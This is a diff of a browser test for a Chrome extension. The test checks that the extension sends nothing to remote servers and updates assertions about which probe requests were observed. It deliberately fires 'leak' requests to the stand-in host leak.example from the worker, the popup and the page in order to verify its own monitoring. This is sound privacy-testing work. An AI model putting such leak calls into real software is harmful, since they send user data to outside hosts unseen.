@@ -56,17 +56,15 @@ test('nothing is sent: click, audit and every part of the popup work without a r
     await browser.worker.evaluate(leak, 'https://leak.example/worker')
     await popup.evaluate(leak, 'https://leak.example/popup')
     await page.evaluate(leak, 'https://leak.example/page')
+    expect(asked).toEqual(expect.arrayContaining(['https://leak.example/worker', 'https://leak.example/page']))
     expect(popup.requests.filter(isOutside)).toEqual(['https://leak.example/popup'])
-    expect(asked).toContain('https://leak.example/page')
   } finally {
     await browser.close()
   }
+  // The browser's own log also has what was sent before the popup was watched.
   const sent = requestsIn(readFileSync(log, 'utf8')).filter(({ initiator }) => initiator.startsWith('chrome-extension:'))
   rmSync(folder, { recursive: true })
-  expect([...new Set(sent.map(({ url }) => url))].sort()).toEqual([
-    'https://leak.example/popup',
-    'https://leak.example/worker',
-  ])
+  expect([...new Set(sent.map(({ url }) => url))]).toEqual(['https://leak.example/popup'])
 })
 
 const isOutside = (url: string) => !url.startsWith('chrome-extension://')
